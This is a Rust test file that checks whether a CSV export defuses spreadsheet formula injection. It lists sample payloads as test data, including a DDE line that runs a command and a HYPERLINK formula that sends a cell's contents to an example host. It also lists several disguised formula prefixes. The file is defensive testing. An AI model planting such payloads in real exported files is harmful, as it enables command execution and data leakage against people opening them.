//! What a member writes so that a spreadsheet runs it when an owner exports the steps.

use serde_json::json;
use trowelogue_api::{About, Clock, ExportForm, Session, Setup};

/// Formulas as spreadsheets take them, plain and in disguise.
const FORMULAS: [&str; 10] = [
    "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\",=1+1,\"",
    "a\r\n=1+1,=2+2",
];

#[test]
fn no_cell_of_an_exported_table_begins_a_formula() {
    let place = tempfile::tempdir().unwrap();
    let (folder, out) = (place.path().join("shop"), place.path().join("steps.csv"));
    let setup = Setup { home: place.path().join("home"), clock: Clock::System, lang: None, units: None };
    Session::found(&setup, &folder, "=cmd", "@Ada").unwrap();
    let mut session = Session::open(&setup, &folder).unwrap();
    for (at, formula) in FORMULAS.iter().enumerate() {
        // A code and a name are one line of text; what else is refused is refused before it is recorded.
        let words: String = formula.split(['\r', '\n', '\t']).collect();
        let piece = json!({ "kind": "piece", "body": { "code": format!("{words}{at}"), "name": words } });
        session.add(piece.to_string().as_bytes(), "test").unwrap();
        let code = format!("{words}{at}");
        let note = json!({ "kind": "note", "pieces": [code], "body": { "text": formula, "notes": formula } });
        session.add(note.to_string().as_bytes(), "test").unwrap();
    }
    session.export(ExportForm::Csv, &About::default(), &out).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&out).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let width = rows[0].len();
    assert_eq!(rows.len(), 1 + 2 * FORMULAS.len(), "no text makes a row of its own");
    let mut defused = 0;
    for row in &rows {
        assert_eq!(row.len(), width, "no text makes a cell of its own");
        for cell in row {
            let first = cell.trim_start().chars().next();
            let number = cell.parse::<f64>().is_ok();
            assert!(number || first.is_none_or(|it| !"=+-@＝".contains(it)), "{cell:?}");
            assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
            defused += usize::from(cell.starts_with('\''));
        }
    }
    assert!(defused >= 2 * 8, "{defused} cells carry the mark of text");
}
